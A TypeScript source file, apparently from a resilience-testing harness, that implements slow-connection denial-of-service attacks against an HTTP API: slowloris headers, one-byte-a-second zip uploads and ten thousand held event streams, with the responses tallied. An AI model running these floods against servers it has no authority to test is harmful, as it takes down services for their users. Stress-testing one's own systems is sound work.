import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { networkAt, type Attack, type AttackContext } from './attack.ts'

interface Held {
  /** How many are open at once; a place whose connection ends is taken again. */
  readonly connections: number
  /** From which address of this machine. */
  readonly addressOf: (place: number) => string
  /** Sent first. */
  readonly opening: (place: number) => string
  /** Sent each second after it; nothing without. */
  readonly drip?: string
}

/** Before a place is taken again: what is refused would else be asked for as fast as it can. */
const PAUSE_MS = 2_000
/** All at once would lose connections in the queue of the system, not at the server. */
const PER_STEP = 200
const STEP_MS = 50

/** Holds connections open, and counts how each was answered and ended. */
async function holdConnections(
  { url, tally, over }: AttackContext,
  { connections, addressOf, opening, drip }: Held,
): Promise<void> {
  const { hostname, port } = new URL(url)
  const hold = (place: number) =>
    new Promise<void>((resolve) => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: addressOf(place) })
      let answer = ''
      let isConnected = false
      socket.setEncoding('utf8')
      socket.on('connect', () => {
        isConnected = true
        socket.write(opening(place))
      })
      socket.on('data', (text: string) => {
        if (answer === '') tally.count(outcomeOf(text))
        answer ||= text.slice(0, 20)
      })
      socket.on('error', () => undefined)
      const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), 1_000)
      const leave = () => void socket.destroy()
      over.addEventListener('abort', leave)
      socket.on('close', () => {
        clearInterval(dripping)
        over.removeEventListener('abort', leave)
        if (!over.aborted && answer === '') {
          tally.count(isConnected ? 'closed without an answer' : 'not connected')
        }
        resolve()
      })
    })
  const keep = async (place: number) => {
    await sleep(Math.floor(place / PER_STEP) * STEP_MS)
    while (!over.aborted) {
      await hold(place)
      await sleep(PAUSE_MS, undefined, { signal: over }).catch(() => undefined)
    }
  }
  await Promise.all(Array.from({ length: connections }, (_, place) => keep(place)))
}

function outcomeOf(text: string): string {
  const status = /^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 'no HTTP'
  const code = /"code":"(\w+)"/.exec(text)?.[1]
  return code === undefined ? status : `${status} ${code}`
}

function tokenAt({ tokens }: AttackContext, place: number): string {
  return `authorization: Bearer ${tokens[place % tokens.length]}`
}

const ZIPS = 560

/** Archives that come one byte a second. */
export const slowZips: Attack = {
  name: 'slow-zips',
  about: `${ZIPS} uploads of one byte a second`,
  run: (context) =>
    holdConnections(context, {
      connections: ZIPS,
      addressOf: () => '127.0.0.2',
      opening: (place) =>
        [
          `POST /api/v1/file-jobs?filename=slow-${place}.zip HTTP/1.1`,
          'host: flood',
          tokenAt(context, place),
          'content-type: application/zip',
          'content-length: 1000000',
          '',
          'PK',
        ].join('\r\n'),
      drip: '.',
    }),
}

const SLOW_HEADERS = 3_000

/** Headers that never come to their end, from several networks. */
export const slowloris: Attack = {
  name: 'slowloris',
  about: `${SLOW_HEADERS} connections whose headers come one byte a second`,
  run: (context) =>
    holdConnections(context, {
      connections: SLOW_HEADERS,
      addressOf: networkAt,
      opening: () => 'GET /api/v1/payments HTTP/1.1\r\nhost: flood\r\nx-slow: ',
      drip: 'a',
    }),
}

const STREAMS = 10_000

/** Ten thousand event streams, from several networks and by many users. */
export const streams: Attack = {
  name: 'streams',
  about: `${STREAMS} connections that ask for event streams`,
  run: (context) =>
    holdConnections(context, {
      connections: STREAMS,
      addressOf: networkAt,
      opening: (place) =>
        `GET /api/v1/stream HTTP/1.1\r\nhost: flood\r\n${tokenAt(context, place)}\r\n\r\n`,
    }),
}
